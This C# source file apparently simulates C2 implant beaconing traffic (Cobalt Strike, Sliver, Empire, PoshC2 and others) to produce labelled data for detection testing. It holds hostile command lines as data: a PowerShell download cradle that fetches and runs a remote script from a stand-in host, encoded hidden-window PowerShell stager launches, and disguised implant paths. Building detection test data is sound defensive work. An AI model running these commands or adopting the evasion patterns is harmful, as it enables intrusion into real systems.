namespace Cadence.Simulation;

/// <summary>
/// The C2 implants, each on a unique rare destination, modelled on the published defaults of
/// their frameworks: sleep and jitter rule, transport, default user agent and URIs where the
/// framework's default HTTP profile sets them. Requests are near-constant in size; tasking shows
/// as short bursts of bigger exchanges; check-ins are missed now and then and sometimes fail.
/// </summary>
/// <remarks>
/// Framework defaults, as documented by each project: Cobalt Strike <c>sleep 60 50</c> (jitter
/// only shortens the sleep); Sliver <c>--seconds 60 --jitter 30</c> (jitter is an absolute
/// extra, 0 to 30 s); Mythic's Apollo 10 s with 23 % jitter; Covenant's Grunt 5 s, 10 %; Empire
/// 5 s with DefaultJitter 0.0; PoshC2 5 s, 20 %, in whole seconds. Host names use the reserved
/// .example domain; addresses are invented public ones.
/// </remarks>
internal static class ImplantProfiles
{
    private static ServiceEndpoint Tls(string host, TlsClient client, string ja3s, ByteSize sent, ByteSize received, int addresses = 1) => new()
    {
        Host = host, Addresses = Addresses.For(host, Addresses.Hosting, addresses), Port = 443, Tls = client, Ja3s = ja3s,
        Sent = sent, Received = received, Duration = 0.18, Resumption = 0,
    };

    private static ServiceEndpoint Http(string host, int port, string userAgent, string method, string[] uris, ByteSize sent, ByteSize received) => new()
    {
        Host = host, Addresses = Addresses.For(host, Addresses.Hosting, 1), Port = port, UserAgent = userAgent, Method = method, Uris = uris,
        Sent = sent, Received = received, Duration = 0.12,
    };

    private static PeriodicChannel Beacon(
        string id, ProcessSpec process, ServiceEndpoint endpoint, IntervalModel interval, string description, RunsWhen when = RunsWhen.Online) =>
        new(new SimulationProfile(id, SimulationLabel.Implant, "beacon", process.FileName, endpoint.Host, endpoint.Port,
                when == RunsWhen.OfficeHours ? $"{interval.Describe()}, 08:00-18:00 Monday to Friday" : interval.Describe(),
                "one device", description),
            process, endpoint, interval, when, Imperfections.Implant);

    private static ProcessSpec User(string file, string commandLine) => new(file, commandLine, AccountKind.User);

    public static readonly PeriodicChannel CobaltStrike = Beacon(
        "cobaltstrike-60s-j50",
        User("rundll32.exe", "\"C:\\Windows\\System32\\rundll32.exe\" C:\\Users\\Public\\Libraries\\msvcp140u.dll,DllRegisterServer"),
        Tls("static.cloud-metrics.example", TlsClients.SChannel, Fingerprints.Ja3sNginx, ByteSize.Near(620, 4), ByteSize.Near(310, 12)),
        new CobaltStrikeJitter(60, 0.5),
        "Cobalt Strike HTTPS beacon, sleep 60 jitter 50 (WinINet, so the ordinary Windows JA3)");

    public static readonly PeriodicChannel Sliver = Beacon(
        "sliver-60s-j30s",
        User("SHARP_HARMONICA.exe", "C:\\Users\\{user}\\Downloads\\SHARP_HARMONICA.exe"),
        Tls("api.sync-portal.example", TlsClients.Go, Fingerprints.Ja3sGo, ByteSize.Near(1350, 60), ByteSize.Near(180, 40)),
        new SliverJitter(60, 30),
        "Sliver HTTPS beacon, --seconds 60 --jitter 30; default ADJECTIVE_NOUN implant name, Go TLS stack, padded messages");

    public static readonly PeriodicChannel Mythic = Beacon(
        "mythic-10s-j23",
        User("WinUpdateHelper.exe", "\"C:\\Users\\{user}\\AppData\\Roaming\\Microsoft\\WinUpdateHelper.exe\""),
        Http("cdn.jquery-assets.example", 80, UserAgents.Mythic, "POST", ["/data"], ByteSize.Near(420, 8), ByteSize.Near(160, 6)),
        new SymmetricJitter(10, 0.23),
        "Mythic Apollo agent over the default HTTP profile (POST /data), 10 s +-23 %");

    public static readonly PeriodicChannel Covenant = Beacon(
        "covenant-5s-j10",
        User("GruntHTTP.exe", "C:\\Users\\Public\\GruntHTTP.exe"),
        Http("intranet-updates.example", 80, UserAgents.Covenant, "GET", ["/en-us/index.html", "/en-us/docs.html", "/en-us/test.html"],
            ByteSize.Near(0, 0), ByteSize.Near(1650, 10)),
        new SymmetricJitter(5, 0.1),
        "Covenant Grunt over the default HTTP profile, Delay 5 JitterPercent 10");

    public static readonly PeriodicChannel Empire = Beacon(
        "empire-5s-j0",
        User("powershell.exe", "powershell.exe -noP -sta -w 1 -enc SQBGACgAJABQAFMAVgBlAHIAcwBpAG8AbgBUAGEAYgBsAGUALgBQAFMAVgBlAHIAcwBpAG8AbgAuAE0AYQBqAG8AcgAgAC0AZwBlACAAMwApAHsA"),
        Http("login.office-secure.example", 80, UserAgents.Empire, "GET", ["/admin/get.php", "/news.php", "/login/process.php"],
            ByteSize.Near(0, 0), ByteSize.Near(940, 4)),
        new SymmetricJitter(5, 0),
        "Empire PowerShell agent, DefaultDelay 5, DefaultJitter 0.0, default URIs and user agent");

    public static readonly PeriodicChannel PoshC2 = Beacon(
        "poshc2-5s-j20",
        User("powershell.exe", "powershell.exe -exec bypass -Noninteractive -windowstyle hidden -e WwBTAHkAcwB0AGUAbQAuAE4AZQB0AC4AUwBlAHIAdgBpAGMAZQBQAG8AaQBuAHQATQBhAG4AYQBnAGUAcgBdADoAOgBTAGUAcgB2AGUAcgA="),
        Tls("content.azure-cdn-edge.example", TlsClients.SChannel, Fingerprints.Ja3sNginx, ByteSize.Near(480, 6), ByteSize.Near(270, 6)),
        new WholeSecondJitter(5, 0.2),
        "PoshC2 PowerShell implant, 5 s +-20 % in whole seconds");

    public static readonly PeriodicChannel SlowHalfHour = Beacon(
        "cobaltstrike-30m-j20",
        User("dllhost.exe", "C:\\Windows\\System32\\dllhost.exe /Processid:{3E5FC7F9-9A51-4367-9063-A120244FBEC7}"),
        Tls("telemetry.win-diag.example", TlsClients.SChannel, Fingerprints.Ja3sNginx, ByteSize.Near(640, 4), ByteSize.Near(330, 12)),
        new CobaltStrikeJitter(1800, 0.2),
        "Slow Cobalt Strike beacon, sleep 30 min jitter 20 (long-haul persistence)");

    public static readonly PeriodicChannel SlowHour = Beacon(
        "cobaltstrike-1h-j10",
        User("taskhostw.exe", "C:\\Users\\Public\\Libraries\\taskhostw.exe"),
        Tls("licensing.soft-activate.example", TlsClients.SChannel, Fingerprints.Ja3sNginx, ByteSize.Near(610, 4), ByteSize.Near(300, 12)),
        new CobaltStrikeJitter(3600, 0.1),
        "Slow Cobalt Strike beacon, sleep 1 h jitter 10");

    public static readonly PeriodicChannel CdnFronted = Beacon(
        "cdn-8ip-60s-j20",
        User("RuntimeBroker.exe", "C:\\Users\\{user}\\AppData\\Roaming\\RuntimeBroker.exe -Embedding"),
        Tls("d3k9x7f2qv.cloudfront-cdn.example", TlsClients.SChannel, Fingerprints.Ja3sCdn, ByteSize.Near(630, 4), ByteSize.Near(320, 12), addresses: 8) with
        {
            Addresses = Addresses.For("d3k9x7f2qv.cloudfront-cdn.example", Addresses.CloudFront, 8),
        },
        new CobaltStrikeJitter(60, 0.2),
        "C2 behind a CDN: one host name, each check-in to one of 8 edge addresses (per-IP grouping splits it eight ways)");

    public static readonly PeriodicChannel OfficeHours = Beacon(
        "officehours-5m-j10",
        User("teamsupdate.exe", "\"C:\\Users\\{user}\\AppData\\Local\\Temp\\teamsupdate.exe\" --silent"),
        Http("mail.corp-webaccess.example", 8080, UserAgents.Chrome, "GET", ["/owa/auth/logon.aspx", "/owa/service.svc"], ByteSize.Near(0, 0), ByteSize.Near(2100, 10)),
        new SymmetricJitter(300, 0.1),
        "Beacon that only calls home 08:00-18:00 on weekdays, every 5 min +-10 %, plain HTTP on 8080 with a current Chrome user agent",
        RunsWhen.OfficeHours);

    public static readonly PeriodicChannel BrowserInjected = Beacon(
        "chrome-injected-45s-j20",
        BenignProcesses.Chrome,
        Tls("news.feed-aggregator.example", TlsClients.SChannel, Fingerprints.Ja3sNginx, ByteSize.Near(600, 4), ByteSize.Near(300, 12)),
        new CobaltStrikeJitter(45, 0.2),
        "Beacon injected into the user's chrome.exe (same process id as the browser), sleep 45 jitter 20; WinINet, so not Chrome's JA3");

    public static readonly IrregularChannel UserAgent = new(
        new SimulationProfile("useragent-httpbrowser", SimulationLabel.Implant, "user-agent", "msupd.exe", "update.windows-check.example", 80,
            new PoissonInterval(2 * 3600, 60, 8 * 3600).Describe(), "one device",
            "HttpBrowser RAT: a handful of irregular plain-HTTP requests with its own user agent 'HttpBrowser/1.0' (one of Atomic Red Team's T1071.001 user agents)"),
        User("msupd.exe", "C:\\ProgramData\\msupd\\msupd.exe -k"),
        Http("update.windows-check.example", 80, UserAgents.HttpBrowser, "GET", ["/index.php?id=48213", "/news/list.asp", "/index.php?id=90122"],
            ByteSize.Near(0, 0), ByteSize.Varying(900, 0.8)),
        new PoissonInterval(2 * 3600, 60, 8 * 3600));

    public static readonly WebSocketChannel WebSocket = new(
        new SimulationProfile("websocket-c2", SimulationLabel.Implant, "websocket", "node.exe", "ws.livechat-relay.example", 80,
            "one upgraded connection held for hours (log-normal, median 3 h), reconnecting when dropped", "one device",
            "WebSocket C2: GET /socket with Upgrade: websocket answered 101, then a long-lived connection with 30 s heartbeats"),
        User("node.exe", "\"C:\\Users\\{user}\\AppData\\Local\\Temp\\nw\\node.exe\" relay.js"),
        Http("ws.livechat-relay.example", 80, UserAgents.Chrome, "GET", ["/socket"], ByteSize.Near(0, 0), ByteSize.Near(0, 0)));

    public static readonly IrregularChannel Ja3 = new(
        new SimulationProfile("ja3-trickbot", SimulationLabel.Implant, "ja3", "wermgr.exe", "cdn.docs-preview.example", 443,
            new PoissonInterval(50 * 60, 30, 4 * 3600).Describe(), "one device",
            "TLS client with Trickbot's JA3 6734f37431670b3ab4292b8f60f29984 (JA3 README), injected in wermgr.exe; Defender inspects every one of its handshakes so the fingerprint is in the export"),
        new ProcessSpec("wermgr.exe", "C:\\Windows\\system32\\wermgr.exe", AccountKind.System),
        Tls("cdn.docs-preview.example", TlsClients.Trickbot, Fingerprints.Ja3sTrickbotServer, ByteSize.Varying(1500, 0.6), ByteSize.Varying(3000, 0.9))
            with { DefenderTlsInspection = 1.0 },
        new PoissonInterval(50 * 60, 30, 4 * 3600));

    public static readonly DownloadCradleChannel Downloader = new(
        new SimulationProfile("powershell-downloadstring", SimulationLabel.Implant, "process", "powershell.exe", "raw.snippet-host.example", 443,
            "once (sometimes 2-3 connections seconds apart) during the first working day", "one device",
            "PowerShell download cradle: (New-Object Net.WebClient).DownloadString of a remote script, then nothing"),
        User("powershell.exe",
            "powershell.exe -nop -w hidden -c \"IEX ((New-Object Net.WebClient).DownloadString('https://raw.snippet-host.example/s/a7f3/stage.ps1'))\""),
        Tls("raw.snippet-host.example", TlsClients.SChannel, Fingerprints.Ja3sNginx, ByteSize.Varying(700, 0.1), ByteSize.Varying(250_000, 0.3)));

    /// <summary>Every implant, in a fixed order: the fleet places implant i on the i-th device of a seeded shuffle.</summary>
    public static IReadOnlyList<ChannelGenerator> All { get; } =
    [
        CobaltStrike, Sliver, Mythic, Covenant, Empire, PoshC2, SlowHalfHour, SlowHour, CdnFronted, OfficeHours, BrowserInjected,
        UserAgent, WebSocket, Ja3, Downloader,
    ];
}
